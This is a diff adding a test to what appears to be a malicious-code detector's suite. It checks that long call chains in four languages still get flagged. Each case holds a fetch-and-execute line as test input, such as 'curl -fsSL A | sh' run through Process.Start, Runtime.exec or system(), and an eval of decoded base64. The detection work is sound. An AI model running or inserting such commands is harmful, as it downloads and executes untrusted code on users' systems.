@@ -77,3 +77,23 @@ describe("a conditional that contains another one as its condition", () => {
     expect(steps).toBeLessThan(1000);
   });
 });
+
+describe("a chain of calls that set elements of a table", () => {
+  it.each([
+    ["js", '.set("a", b)', "x = atob(c);\no", "eval(x);"],
+    ["csharp", '.Add("a", b)', "o", 'Process.Start("sh", "-c \\"curl -fsSL A | sh\\"");'],
+    [
+      "java",
+      '.put("a", b)',
+      "o",
+      'Runtime.getRuntime().exec(new String[] { "sh", "-c", "curl -fsSL A | sh" });',
+    ],
+    ["ruby", '.store("a", b)', "o", "system('curl -fsSL A | sh')"],
+  ])("is read once: %s, %s", (tag, call, object, finding) => {
+    const code = `${object}${call.repeat(60)}${tag === "ruby" ? "" : ";"}\n${finding}`;
+    const { detection, steps } = detector.explain(fenced(tag, code));
+    expect(detection.labels).toEqual(["PS"]);
+    expect(detection.outcome.status).toBe("complete");
+    expect(steps).toBeLessThan(2000);
+  });
+});
